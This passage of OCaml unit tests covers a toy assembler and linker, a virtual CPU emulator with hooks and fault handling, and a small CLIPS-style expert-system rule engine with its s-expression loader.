  | _ -> Alcotest.fail "undefined jump target accepted"

let test_entry_point () =
  let u = unit_ () in
  Asm.nop u;
  Asm.label u "_start";
  Asm.hlt u;
  check_int "entry at _start" 0x1001 (Asm.finalize u).entry;
  let v = unit_ () in
  Asm.hlt v;
  check_int "entry defaults to base" 0x1000 (Asm.finalize v).entry

let test_exports () =
  let u = unit_ ~kind:Binary.Image.Shared_object () in
  Asm.label u "f";
  Asm.export u "f";
  Asm.ret u;
  let img = Asm.finalize u in
  check "export resolved" true
    (Binary.Symbol.find_export img.exports "f" = Some 0x1000);
  check "exported routine lookup" true
    (Binary.Image.exported_routine img 0x1000 = Some "f")

let test_import_reloc_and_link () =
  let u = unit_ ~needed:[ "/t/lib" ] () in
  Asm.label u "_start";
  Asm.call u "external_fn";  (* unknown label -> import *)
  Asm.hlt u;
  let img = Asm.finalize u in
  check_int "one reloc" 1 (List.length img.relocs);
  (* unresolved link fails *)
  (match Binary.Image.link img ~resolve:(fun _ -> None) with
   | exception Failure _ -> ()
   | _ -> Alcotest.fail "unresolved symbol accepted");
  (* resolved link patches the call *)
  let linked =
    Binary.Image.link img ~resolve:(fun s ->
        if s = "external_fn" then Some 0x4242 else None)
  in
  check_int "relocs consumed" 0 (List.length linked.relocs);
  match linked.text.(0) with
  | Isa.Insn.Call (Isa.Operand.Imm 0x4242) -> ()
  | _ -> Alcotest.fail "call not patched"

let test_local_call_not_import () =
  let u = unit_ () in
  Asm.label u "_start";
  Asm.call u "helper";
  Asm.hlt u;
  Asm.label u "helper";
  Asm.ret u;
  let img = Asm.finalize u in
  check_int "no relocs for local calls" 0 (List.length img.relocs)

let test_mlbl_base_lowering () =
  let u = unit_ () in
  Asm.space u "table" 8;
  Asm.movb u Asm.eax (Asm.mlbl_base Isa.Reg.ECX ~off:2 "table");
  Asm.hlt u;
  let img = Asm.finalize u in
  match img.text.(0) with
  | Isa.Insn.Mov (Isa.Insn.B, _, Isa.Operand.Mem { base = Some ECX; disp; _ })
    ->
    let rw = List.find (fun (s : Binary.Section.t) -> s.name = ".data")
        img.sections
    in
    check_int "base+label+off" (rw.addr + 2) disp
  | _ -> Alcotest.fail "mlbl_base lowering wrong"

let test_listing () =
  let u = unit_ () in
  Asm.label u "_start";
  Asm.nop u;
  Asm.hlt u;
  let text = Asm.listing (Asm.finalize u) in
  check "listing mentions nop" true
    (Astring.String.is_infix ~affix:"nop" text);
  check "listing has addresses" true
    (Astring.String.is_infix ~affix:"1000:" text)

let test_executable_runs () =
  (* end-to-end: assemble, map, execute *)
  let u = unit_ () in
  Asm.word u "acc" 5;
  Asm.label u "_start";
  Asm.movl u Asm.eax (Asm.mlbl "acc");
  Asm.addl u Asm.eax (Asm.imm 37);
  Asm.hlt u;
  let img = Asm.finalize u in
  let m = Vm.Machine.create () in
  Vm.Machine.map_image m img;
  Vm.Machine.set_eip m img.entry;
  let rec go n =
    if n > 100 then Alcotest.fail "runaway"
    else
      match Vm.Machine.step m with
      | Vm.Machine.Stopped _ -> ()
      | _ -> go (n + 1)
  in
  go 0;
  check_int "assembled program computes" 42 (Vm.Machine.get_reg m EAX)

let suite =
  [ Alcotest.test_case "forward label" `Quick test_forward_label;
    Alcotest.test_case "backward label" `Quick test_backward_label;
    Alcotest.test_case "data layout" `Quick test_data_layout;
    Alcotest.test_case "space is zeroed" `Quick test_space_zeroed;
    Alcotest.test_case "duplicate labels rejected" `Quick
      test_duplicate_label_rejected;
    Alcotest.test_case "undefined label rejected" `Quick
      test_undefined_label_rejected;
    Alcotest.test_case "undefined jump rejected" `Quick
      test_undefined_jump_rejected;
    Alcotest.test_case "entry point selection" `Quick test_entry_point;
    Alcotest.test_case "exports" `Quick test_exports;
    Alcotest.test_case "import reloc and link" `Quick
      test_import_reloc_and_link;
    Alcotest.test_case "local calls are not imports" `Quick
      test_local_call_not_import;
    Alcotest.test_case "mlbl_base lowering" `Quick test_mlbl_base_lowering;
    Alcotest.test_case "listing" `Quick test_listing;
    Alcotest.test_case "assembled program executes" `Quick
      test_executable_runs ]
