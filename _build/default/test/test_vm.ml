(* Unit tests for the ISA definitions and the virtual CPU. *)

open Vm

let check = Alcotest.(check bool)
let check_int = Alcotest.(check int)
let check_str = Alcotest.(check string)

(* Build a machine directly from an instruction list mapped at [base]. *)
let machine_of ?(base = 0x1000) ?hooks insns =
  let img =
    Binary.Image.make ~path:"/test/prog" ~kind:Binary.Image.Executable ~base
      ~text:(Array.of_list insns) ~sections:[] ~exports:[] ~relocs:[]
      ~needed:[] ~entry:base
  in
  let m = Machine.create ?hooks () in
  Machine.map_image m img;
  Machine.set_eip m base;
  Machine.set_reg m ESP 0xF000;
  m

(* Step until the machine stops or [fuel] runs out. *)
let run ?(fuel = 10_000) m =
  let rec go fuel =
    if fuel = 0 then Alcotest.fail "machine did not stop"
    else
      match Machine.step m with
      | Machine.Continue -> go (fuel - 1)
      | Machine.Syscall _ -> go (fuel - 1)  (* treated as nop in tests *)
      | Machine.Stopped s -> s
  in
  go fuel

let open_insn = Isa.Insn.Hlt

let test_reg_indices () =
  List.iter
    (fun r ->
      check "index round-trip" true
        (Isa.Reg.equal r (Isa.Reg.of_index (Isa.Reg.index r))))
    Isa.Reg.all;
  check_int "eight registers" 8 (List.length Isa.Reg.all);
  check_str "name" "eax" (Isa.Reg.name EAX)

let test_insn_pp () =
  (* AT&T operand order: source first *)
  check_str "mov pp" "movl $0x4,%ebx"
    (Isa.Insn.to_string (Mov (W, Reg EBX, Imm 4)));
  check_str "cpuid pp" "cpuid" (Isa.Insn.to_string Cpuid);
  check "hlt is control flow" true (Isa.Insn.writes_control_flow Isa.Insn.Hlt);
  check "mov is not" false
    (Isa.Insn.writes_control_flow (Mov (W, Reg EAX, Imm 0)))

let test_mov_and_memory () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Reg EAX, Imm 0xDEADBEEF);
        Mov (W, Isa.Operand.abs 0x2000, Reg EAX);
        Mov (W, Reg EBX, Isa.Operand.abs 0x2000);
        open_insn ]
  in
  ignore (run m);
  check_int "round-tripped" 0xDEADBEEF (Machine.get_reg m EBX);
  check_int "little-endian low byte" 0xEF (Machine.read_byte m 0x2000);
  check_int "little-endian high byte" 0xDE (Machine.read_byte m 0x2003)

let test_movb_zero_extends () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Reg EAX, Imm 0xFFFF);
        Mov (B, Reg EAX, Imm 0x41);
        open_insn ]
  in
  ignore (run m);
  check_int "byte mov zero-extends" 0x41 (Machine.get_reg m EAX)

let test_alu () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Reg EAX, Imm 10); Add (Reg EAX, Imm 5);
        Mov (W, Reg EBX, Imm 3); Sub (Reg EAX, Reg EBX);
        Mul (Reg EAX, Imm 2); Div (Reg EAX, Imm 4);
        Xor (Reg ECX, Reg ECX); Or (Reg ECX, Imm 0xF0);
        And (Reg ECX, Imm 0x3C); Shl (Reg ECX, Imm 2);
        Shr (Reg ECX, Imm 1); Inc (Reg EDX); Dec (Reg EDX);
        open_insn ]
  in
  ignore (run m);
  check_int "arith chain" 6 (Machine.get_reg m EAX);
  check_int "logic chain" 0x60 (Machine.get_reg m ECX);
  check_int "inc/dec cancel" 0 (Machine.get_reg m EDX)

let test_wraparound () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Reg EAX, Imm 0xFFFFFFFF); Add (Reg EAX, Imm 2);
        open_insn ]
  in
  ignore (run m);
  check_int "32-bit wrap" 1 (Machine.get_reg m EAX)

let test_div_by_zero_faults () =
  let open Isa.Insn in
  let m = machine_of [ Mov (W, Reg EAX, Imm 1); Div (Reg EAX, Imm 0) ] in
  match run m with
  | Machine.Faulted Machine.Div_by_zero -> ()
  | s -> Alcotest.failf "expected div fault, got %a" Machine.pp_status s

(* run a conditional-jump program: sets eax=1 if cond taken else 2 *)
let cond_result cmp_a cmp_b cond =
  let open Isa.Insn in
  let base = 0x1000 in
  let m =
    machine_of ~base
      [ Cmp (W, Imm cmp_a, Imm cmp_b);  (* 0 *)
        Jcc (cond, Imm (base + 4));     (* 1 *)
        Mov (W, Reg EAX, Imm 2);        (* 2 *)
        Hlt;                            (* 3 *)
        Mov (W, Reg EAX, Imm 1);        (* 4 *)
        Hlt ]
  in
  ignore (run m);
  Machine.get_reg m EAX

let test_conditions () =
  let open Isa.Insn in
  check_int "z taken" 1 (cond_result 5 5 Z);
  check_int "z not taken" 2 (cond_result 5 6 Z);
  check_int "nz" 1 (cond_result 5 6 NZ);
  check_int "l signed" 1 (cond_result (-1) 0 L);
  check_int "l unsigned trap avoided" 1 (cond_result 0xFFFFFFFF 0 L);
  check_int "ge" 1 (cond_result 3 3 GE);
  check_int "le" 1 (cond_result 2 3 LE);
  check_int "g" 1 (cond_result 4 3 G);
  check_int "g not on equal" 2 (cond_result 3 3 G);
  check_int "s after negative cmp" 1 (cond_result 1 2 S);
  check_int "ns" 1 (cond_result 2 1 NS)

let test_stack_call_ret () =
  let open Isa.Insn in
  let base = 0x1000 in
  let m =
    machine_of ~base
      [ Push (Imm 99);                 (* 0 *)
        Call (Imm (base + 4));         (* 1 *)
        Pop (Reg EBX);                 (* 2: pops 99 *)
        Hlt;                           (* 3 *)
        Mov (W, Reg EAX, Imm 7);       (* 4: the routine *)
        Ret ]
  in
  ignore (run m);
  check_int "routine ran" 7 (Machine.get_reg m EAX);
  check_int "stack balanced" 99 (Machine.get_reg m EBX);
  check_int "esp restored" 0xF000 (Machine.get_reg m ESP)

let test_indirect_jump () =
  let open Isa.Insn in
  let base = 0x1000 in
  let m =
    machine_of ~base
      [ Mov (W, Reg ECX, Imm (base + 3));  (* 0 *)
        Jmp (Reg ECX);                     (* 1 *)
        Hlt;                               (* 2: skipped *)
        Mov (W, Reg EAX, Imm 42);          (* 3 *)
        Hlt ]
  in
  ignore (run m);
  check_int "indirect target" 42 (Machine.get_reg m EAX)

let test_lea_and_indexed () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Reg EBX, Imm 0x2000); Mov (W, Reg ECX, Imm 3);
        Lea (EAX, { base = Some EBX; index = Some ECX; scale = 4; disp = 8 });
        open_insn ]
  in
  ignore (run m);
  check_int "lea arithmetic" (0x2000 + 12 + 8) (Machine.get_reg m EAX)

let test_cpuid () =
  let m = machine_of [ Isa.Insn.Cpuid; open_insn ] in
  ignore (run m);
  check_int "GenuineIntel eax" 0x756E_6547 (Machine.get_reg m EAX)

let test_syscall_outcome () =
  let m = machine_of [ Isa.Insn.Int 0x80; open_insn ] in
  (match Machine.step m with
   | Machine.Syscall 0x80 -> ()
   | _ -> Alcotest.fail "int 0x80 must surface as Syscall");
  check_int "eip advanced past int" 0x1001 (Machine.eip m)

let test_bad_fetch () =
  let m = machine_of [ Isa.Insn.Jmp (Isa.Operand.Imm 0x9999) ] in
  match run m with
  | Machine.Faulted (Machine.Bad_fetch 0x9999) -> ()
  | s -> Alcotest.failf "expected bad fetch, got %a" Machine.pp_status s

let test_bad_access () =
  let open Isa.Insn in
  let m = machine_of [ Mov (W, Reg EAX, Isa.Operand.abs 0x200000) ] in
  match run m with
  | Machine.Faulted (Machine.Bad_access _) -> ()
  | s -> Alcotest.failf "expected bad access, got %a" Machine.pp_status s

let test_cstring_and_bytes () =
  let m = machine_of [ open_insn ] in
  Machine.write_string m 0x3000 "hello\000world";
  check_str "cstring stops at NUL" "hello" (Machine.read_cstring m 0x3000);
  check_str "read_bytes spans NUL" "hello\000w"
    (Machine.read_bytes m 0x3000 7)

let test_clone_isolation () =
  let open Isa.Insn in
  let m = machine_of [ Mov (W, Reg EAX, Imm 5); open_insn ] in
  let c = Machine.clone m in
  ignore (run m);
  check_int "parent ran" 5 (Machine.get_reg m EAX);
  check_int "clone untouched" 0 (Machine.get_reg c EAX);
  Machine.write_byte c 0x2000 7;
  check_int "memory is copied" 0 (Machine.read_byte m 0x2000)

let test_bb_hook () =
  let open Isa.Insn in
  let base = 0x1000 in
  let bbs = ref [] in
  let hooks = Machine.no_hooks () in
  hooks.on_bb <- (fun _ addr -> bbs := addr :: !bbs);
  let m =
    machine_of ~base ~hooks
      [ Mov (W, Reg EAX, Imm 1);       (* 0: BB leader *)
        Jmp (Imm (base + 2));          (* 1 *)
        Mov (W, Reg EAX, Imm 2);       (* 2: BB leader (jump target) *)
        Mov (W, Reg EBX, Imm 3);       (* 3: same BB *)
        Hlt ]
  in
  ignore (run m);
  Alcotest.(check (list int)) "bb leaders" [ base; base + 2 ]
    (List.rev !bbs)

let test_pre_insn_hook_order () =
  let open Isa.Insn in
  let seen = ref [] in
  let hooks = Machine.no_hooks () in
  hooks.pre_insn <- (fun m addr _ ->
      (* pre-hook observes the state *before* the instruction *)
      seen := (addr, Machine.get_reg m EAX) :: !seen);
  let m =
    machine_of ~hooks [ Mov (W, Reg EAX, Imm 9); Mov (W, Reg EBX, Reg EAX);
                        Hlt ]
  in
  ignore (run m);
  (match List.rev !seen with
   | (a0, 0) :: (a1, 9) :: _ ->
     check_int "first addr" 0x1000 a0;
     check_int "second addr" 0x1001 a1
   | _ -> Alcotest.fail "pre-insn hook order wrong")

let test_segments () =
  let m = machine_of [ open_insn ] in
  (match Machine.segment_at m 0x1000 with
   | Some seg -> check_str "segment image" "/test/prog" seg.seg_image
   | None -> Alcotest.fail "segment missing");
  check "outside segment" true (Machine.segment_at m 0x5000 = None);
  check "fetch in range" true (Machine.fetch m 0x1000 <> None);
  check "fetch out of range" true (Machine.fetch m 0x5000 = None)

let test_mem_to_mem_mov () =
  let open Isa.Insn in
  let m =
    machine_of
      [ Mov (W, Isa.Operand.abs 0x2000, Imm 77);
        Mov (W, Isa.Operand.abs 0x2004, Isa.Operand.abs 0x2000);
        open_insn ]
  in
  ignore (run m);
  check_int "mem-to-mem allowed" 77 (Machine.read_word m 0x2004)

let suite =
  [ Alcotest.test_case "register indices" `Quick test_reg_indices;
    Alcotest.test_case "instruction printing" `Quick test_insn_pp;
    Alcotest.test_case "mov and memory endianness" `Quick
      test_mov_and_memory;
    Alcotest.test_case "movb zero-extends" `Quick test_movb_zero_extends;
    Alcotest.test_case "ALU chain" `Quick test_alu;
    Alcotest.test_case "32-bit wraparound" `Quick test_wraparound;
    Alcotest.test_case "division by zero faults" `Quick
      test_div_by_zero_faults;
    Alcotest.test_case "all condition codes" `Quick test_conditions;
    Alcotest.test_case "stack, call and ret" `Quick test_stack_call_ret;
    Alcotest.test_case "indirect jump" `Quick test_indirect_jump;
    Alcotest.test_case "lea with index and scale" `Quick
      test_lea_and_indexed;
    Alcotest.test_case "cpuid identity" `Quick test_cpuid;
    Alcotest.test_case "int 0x80 surfaces syscalls" `Quick
      test_syscall_outcome;
    Alcotest.test_case "bad fetch faults" `Quick test_bad_fetch;
    Alcotest.test_case "bad access faults" `Quick test_bad_access;
    Alcotest.test_case "cstring and raw bytes" `Quick
      test_cstring_and_bytes;
    Alcotest.test_case "clone isolation" `Quick test_clone_isolation;
    Alcotest.test_case "basic-block hook" `Quick test_bb_hook;
    Alcotest.test_case "pre-instruction hook order" `Quick
      test_pre_insn_hook_order;
    Alcotest.test_case "segments and fetch" `Quick test_segments;
    Alcotest.test_case "memory-to-memory mov" `Quick test_mem_to_mem_mov ]
