(* Unit tests for the mini-CLIPS expert system: values, templates,
   patterns, the inference engine, the s-expression reader and the CLIPS
   subset loader. *)

open Expert

let check = Alcotest.(check bool)
let check_int = Alcotest.(check int)
let check_str = Alcotest.(check string)

(* ------------------------------------------------------------------ *)
(* Values                                                              *)

let test_value_truthy () =
  check "FALSE is false" false (Value.truthy Value.sym_false);
  check "0 is false" false (Value.truthy (Value.Int 0));
  check "empty multifield is false" false (Value.truthy (Value.Lst []));
  check "TRUE is true" true (Value.truthy Value.sym_true);
  check "string is true" true (Value.truthy (Value.Str ""));
  check "1 is true" true (Value.truthy (Value.Int 1))

let test_value_equal () =
  check "sym eq" true (Value.equal (Sym "a") (Sym "a"));
  check "sym vs str differ" false (Value.equal (Sym "a") (Str "a"));
  check "lists compare deep" true
    (Value.equal (Lst [ Int 1; Sym "x" ]) (Lst [ Int 1; Sym "x" ]));
  check "list length matters" false
    (Value.equal (Lst [ Int 1 ]) (Lst [ Int 1; Int 2 ]))

let test_value_text () =
  check_str "string unquoted" "hi" (Value.text (Str "hi"));
  check_str "int text" "42" (Value.text (Int 42));
  check_str "list joins" "a 1" (Value.text (Lst [ Sym "a"; Int 1 ]))

(* ------------------------------------------------------------------ *)
(* Templates and facts                                                 *)

let tpl =
  Template.make "ev"
    [ Template.slot "kind"; Template.slot ~default:(Value.Int 0) "level" ]

let test_template_defaults () =
  match Template.normalize tpl [ "kind", Value.Sym "x" ] with
  | Ok slots ->
    check "default filled" true
      (List.assoc "level" slots = Value.Int 0);
    check_int "slot order preserved" 2 (List.length slots)
  | Error e -> Alcotest.fail e

let test_template_unknown_slot () =
  match Template.normalize tpl [ "bogus", Value.Int 1 ] with
  | Ok _ -> Alcotest.fail "unknown slot accepted"
  | Error _ -> ()

let test_fact_slots () =
  let f =
    Fact.make ~id:7 ~template:"ev"
      ~slots:[ "kind", Value.Sym "x"; "level", Value.Int 3 ]
  in
  check "slot found" true (Fact.slot f "level" = Some (Value.Int 3));
  check "slot missing" true (Fact.slot f "nope" = None);
  check "slot_exn" true (Fact.slot_exn f "kind" = Value.Sym "x")

(* ------------------------------------------------------------------ *)
(* Patterns                                                            *)

let fact_x level =
  Fact.make ~id:1 ~template:"ev"
    ~slots:[ "kind", Value.Sym "x"; "level", Value.Int level ]

let test_pattern_literal () =
  let p = Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "x") ] in
  check "literal matches" true (Pattern.match_fact p [] (fact_x 1) <> None);
  let p' = Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "y") ] in
  check "literal mismatch" true (Pattern.match_fact p' [] (fact_x 1) = None)

let test_pattern_var_binding () =
  let p = Pattern.make "ev" [ "level", Pattern.Var "l" ] in
  match Pattern.match_fact p [] (fact_x 9) with
  | Some b -> check "var bound" true (Pattern.lookup b "l" = Some (Value.Int 9))
  | None -> Alcotest.fail "var pattern should match"

let test_pattern_var_consistency () =
  let p =
    Pattern.make "ev" [ "kind", Pattern.Var "v"; "level", Pattern.Var "v" ]
  in
  check "inconsistent bindings rejected" true
    (Pattern.match_fact p [] (fact_x 1) = None);
  let same =
    Fact.make ~id:2 ~template:"ev"
      ~slots:[ "kind", Value.Int 5; "level", Value.Int 5 ]
  in
  check "consistent bindings accepted" true
    (Pattern.match_fact p [] same <> None)

let test_pattern_fact_binding () =
  let p = Pattern.make ~binding:"f" "ev" [] in
  match Pattern.match_fact p [] (fact_x 1) with
  | Some b ->
    check "fact id bound" true (Pattern.lookup b "f" = Some (Value.Int 1))
  | None -> Alcotest.fail "should match"

let test_pattern_template_mismatch () =
  let p = Pattern.make "other" [] in
  check "template gates" true (Pattern.match_fact p [] (fact_x 1) = None)

let test_pattern_missing_slot () =
  let p = Pattern.make "ev" [ "absent", Pattern.Anything ] in
  check "missing slot fails" true (Pattern.match_fact p [] (fact_x 1) = None)

let test_pattern_pred () =
  let p =
    Pattern.make "ev"
      [ "level", Pattern.Pred ("big", function
          | Value.Int n -> n > 5
          | _ -> false) ]
  in
  check "pred true" true (Pattern.match_fact p [] (fact_x 9) <> None);
  check "pred false" true (Pattern.match_fact p [] (fact_x 1) = None)

(* ------------------------------------------------------------------ *)
(* Engine                                                              *)

let fresh_engine () =
  let e = Engine.create () in
  Engine.deftemplate e tpl;
  e

let test_engine_assert_retract () =
  let e = fresh_engine () in
  let f = Engine.assert_fact e "ev" [ "kind", Value.Sym "x" ] in
  check_int "one fact" 1 (List.length (Engine.facts e));
  check "fact by id" true (Engine.fact_by_id e f.id <> None);
  Engine.retract e f;
  check_int "retracted" 0 (List.length (Engine.facts e))

let test_engine_unknown_template () =
  let e = fresh_engine () in
  match Engine.assert_fact e "nope" [] with
  | exception Failure _ -> ()
  | _ -> Alcotest.fail "unknown template accepted"

let test_engine_fires () =
  let e = fresh_engine () in
  let hits = ref 0 in
  Engine.defrule e
    (Engine.rule ~name:"r"
       [ Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "x") ] ]
       (fun _ _ _ -> incr hits));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x" ]);
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "y" ]);
  check_int "fired once" 1 (Engine.run e);
  check_int "action ran" 1 !hits

let test_engine_refraction () =
  let e = fresh_engine () in
  Engine.defrule e
    (Engine.rule ~name:"r" [ Pattern.make "ev" [] ] (fun _ _ _ -> ()));
  ignore (Engine.assert_fact e "ev" []);
  check_int "first run fires" 1 (Engine.run e);
  check_int "second run silent" 0 (Engine.run e);
  ignore (Engine.assert_fact e "ev" []);
  check_int "new fact fires again" 1 (Engine.run e)

let test_engine_salience () =
  let e = fresh_engine () in
  let order = ref [] in
  let record name = order := name :: !order in
  Engine.defrule e
    (Engine.rule ~name:"low" ~salience:(-5) [ Pattern.make "ev" [] ]
       (fun _ _ _ -> record "low"));
  Engine.defrule e
    (Engine.rule ~name:"high" ~salience:10 [ Pattern.make "ev" [] ]
       (fun _ _ _ -> record "high"));
  ignore (Engine.assert_fact e "ev" []);
  ignore (Engine.run e);
  Alcotest.(check (list string)) "salience order" [ "high"; "low" ]
    (List.rev !order)

let test_engine_join () =
  let e = fresh_engine () in
  let pairs = ref 0 in
  Engine.defrule e
    (Engine.rule ~name:"join"
       [ Pattern.make "ev" [ "level", Pattern.Var "l" ];
         Pattern.make "ev"
           [ "kind", Pattern.Lit (Value.Sym "probe");
             "level", Pattern.Var "l" ] ]
       (fun _ _ facts ->
         check_int "two facts matched" 2 (List.length facts);
         incr pairs));
  ignore
    (Engine.assert_fact e "ev" [ "kind", Value.Sym "a"; "level", Value.Int 1 ]);
  ignore
    (Engine.assert_fact e "ev"
       [ "kind", Value.Sym "probe"; "level", Value.Int 1 ]);
  ignore
    (Engine.assert_fact e "ev" [ "kind", Value.Sym "b"; "level", Value.Int 2 ]);
  ignore (Engine.run e);
  (* probe joins with: itself and the level-1 "a" fact *)
  check_int "joined activations" 2 !pairs

let test_engine_guard () =
  let e = fresh_engine () in
  let hits = ref 0 in
  Engine.defrule e
    (Engine.rule ~name:"guarded"
       ~guard:(fun _ b -> Pattern.lookup b "l" = Some (Value.Int 3))
       [ Pattern.make "ev" [ "level", Pattern.Var "l" ] ]
       (fun _ _ _ -> incr hits));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x"; "level", Value.Int 3 ]);
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x"; "level", Value.Int 4 ]);
  ignore (Engine.run e);
  check_int "guard filters" 1 !hits

let test_engine_cascade () =
  let e = fresh_engine () in
  Engine.deftemplate e (Template.make "out" [ Template.slot "v" ]);
  Engine.defrule e
    (Engine.rule ~name:"produce"
       [ Pattern.make "ev" [ "level", Pattern.Var "l" ] ]
       (fun e b _ ->
         match Pattern.lookup b "l" with
         | Some v -> ignore (Engine.assert_fact e "out" [ "v", v ])
         | None -> ()));
  let consumed = ref None in
  Engine.defrule e
    (Engine.rule ~name:"consume" [ Pattern.make "out" [ "v", Pattern.Var "v" ] ]
       (fun _ b _ -> consumed := Pattern.lookup b "v"));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x"; "level", Value.Int 8 ]);
  check_int "two firings" 2 (Engine.run e);
  check "cascaded" true (!consumed = Some (Value.Int 8))

let test_engine_limit () =
  let e = fresh_engine () in
  (* a rule that keeps asserting fresh facts: the limit must stop it *)
  Engine.defrule e
    (Engine.rule ~name:"loop" [ Pattern.make "ev" [] ]
       (fun e _ _ -> ignore (Engine.assert_fact e "ev" [])));
  ignore (Engine.assert_fact e "ev" []);
  check_int "limited" 5 (Engine.run ~limit:5 e)

let test_engine_negated () =
  let e = fresh_engine () in
  let hits = ref 0 in
  Engine.defrule e
    (Engine.rule ~name:"lonely"
       ~negated:
         [ Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "blocker") ] ]
       [ Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "x") ] ]
       (fun _ _ _ -> incr hits));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x" ]);
  ignore (Engine.run e);
  check_int "fires without blocker" 1 !hits;
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x" ]);
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "blocker" ]);
  ignore (Engine.run e);
  check_int "blocked by negated CE" 1 !hits

let test_engine_negated_binding () =
  (* the negated pattern shares variables with the positive ones *)
  let e = fresh_engine () in
  let hits = ref [] in
  Engine.defrule e
    (Engine.rule ~name:"unpaired"
       ~negated:
         [ Pattern.make "ev"
             [ "kind", Pattern.Lit (Value.Sym "ack");
               "level", Pattern.Var "l" ] ]
       [ Pattern.make "ev"
           [ "kind", Pattern.Lit (Value.Sym "req");
             "level", Pattern.Var "l" ] ]
       (fun _ b _ -> hits := Pattern.lookup b "l" :: !hits));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "req"; "level", Value.Int 1 ]);
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "req"; "level", Value.Int 2 ]);
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "ack"; "level", Value.Int 1 ]);
  ignore (Engine.run e);
  (match !hits with
   | [ Some (Value.Int 2) ] -> ()
   | _ -> Alcotest.fail "only the unacknowledged request should fire")

let test_engine_output () =
  let e = fresh_engine () in
  Engine.printout e "hello";
  Engine.printout e "world";
  Alcotest.(check (list string)) "buffered" [ "hello"; "world" ]
    (Engine.drain_output e);
  Alcotest.(check (list string)) "drained" [] (Engine.drain_output e)

let test_engine_functions_globals () =
  let e = fresh_engine () in
  Engine.defun e "double" (function
    | [ Value.Int n ] -> Value.Int (2 * n)
    | _ -> Value.sym_false);
  check "call host fn" true (Engine.call_fn e "double" [ Value.Int 21 ] = Value.Int 42);
  (match Engine.call_fn e "missing" [] with
   | exception Failure _ -> ()
   | _ -> Alcotest.fail "missing function accepted");
  Engine.set_global e "X" (Value.Int 7);
  check "global read" true (Engine.global e "X" = Some (Value.Int 7));
  check "global missing" true (Engine.global e "Y" = None)

(* ------------------------------------------------------------------ *)
(* S-expressions                                                       *)

let test_sexp_atoms () =
  (match Sexp.parse "hello" with
   | Sexp.Atom "hello" -> ()
   | _ -> Alcotest.fail "atom");
  (match Sexp.parse "\"a b\\n\"" with
   | Sexp.Quoted "a b\n" -> ()
   | _ -> Alcotest.fail "quoted with escape")

let test_sexp_nesting () =
  match Sexp.parse "(a (b 1) \"s\")" with
  | Sexp.List [ Atom "a"; List [ Atom "b"; Atom "1" ]; Quoted "s" ] -> ()
  | _ -> Alcotest.fail "nesting"

let test_sexp_comments () =
  check_int "comments skipped" 2
    (List.length (Sexp.parse_all "; header\n(a) ; mid\n(b)\n; tail"))

let test_sexp_errors () =
  List.iter
    (fun src ->
      match Sexp.parse_all src with
      | exception Sexp.Parse_error _ -> ()
      | _ -> Alcotest.fail ("accepted malformed " ^ src))
    [ "(a"; ")"; "\"unterminated" ]

(* ------------------------------------------------------------------ *)
(* CLIPS loader                                                        *)

let clips_engine text =
  let e = Engine.create () in
  Clips.load e text;
  e

let test_clips_deftemplate_assert () =
  let e =
    clips_engine
      {|(deftemplate person (slot name) (slot age (default 0)))
        (assert (person (name "ada")))|}
  in
  match Engine.facts e with
  | [ f ] ->
    check "name slot" true (Fact.slot f "name" = Some (Value.Str "ada"));
    check "default age" true (Fact.slot f "age" = Some (Value.Int 0))
  | _ -> Alcotest.fail "expected one fact"

let test_clips_rule_fires () =
  let e =
    clips_engine
      {|(deftemplate n (slot v))
        (defrule big "doc" (n (v ?x)) (test (> ?x 10)) =>
          (printout t "big " ?x crlf))
        (assert (n (v 5)))
        (assert (n (v 50)))|}
  in
  ignore (Engine.run e);
  Alcotest.(check (list string)) "only the big one" [ "big 50" ]
    (Engine.drain_output e)

let test_clips_bind_if_else () =
  let e =
    clips_engine
      {|(deftemplate n (slot v))
        (defrule classify (n (v ?x)) =>
          (bind ?label small)
          (if (> ?x 10) then (bind ?label big) else (bind ?label small))
          (printout t ?label crlf))
        (assert (n (v 50)))|}
  in
  ignore (Engine.run e);
  Alcotest.(check (list string)) "else branch" [ "big" ]
    (Engine.drain_output e)

let test_clips_retract () =
  let e =
    clips_engine
      {|(deftemplate n (slot v))
        (defrule eat ?f <- (n (v ?)) => (retract ?f))
        (assert (n (v 1)))|}
  in
  ignore (Engine.run e);
  check_int "retracted by rule" 0 (List.length (Engine.facts e))

let test_clips_globals () =
  let e =
    clips_engine
      {|(defglobal ?*LIMIT* = 10)
        (deftemplate n (slot v))
        (defrule over (n (v ?x)) (test (> ?x ?*LIMIT*)) =>
          (printout t "over" crlf))
        (assert (n (v 11)))|}
  in
  ignore (Engine.run e);
  Alcotest.(check (list string)) "global in test" [ "over" ]
    (Engine.drain_output e)

let test_clips_builtins () =
  let e = Engine.create () in
  Clips.install_builtins e;
  let ev s = Clips.eval e s in
  check "eq" true (ev "(eq a a)" = Value.sym_true);
  check "neq" true (ev "(neq a b)" = Value.sym_true);
  check "arith" true (ev "(+ 1 2 3)" = Value.Int 6);
  check "minus" true (ev "(- 10 4)" = Value.Int 6);
  check "negate" true (ev "(- 5)" = Value.Int (-5));
  check "mult" true (ev "(* 2 3 4)" = Value.Int 24);
  check "lt" true (ev "(< 1 2)" = Value.sym_true);
  check "ge" true (ev "(>= 2 2)" = Value.sym_true);
  check "and short" true (ev "(and TRUE TRUE)" = Value.sym_true);
  check "or" true (ev "(or FALSE TRUE)" = Value.sym_true);
  check "not" true (ev "(not FALSE)" = Value.sym_true);
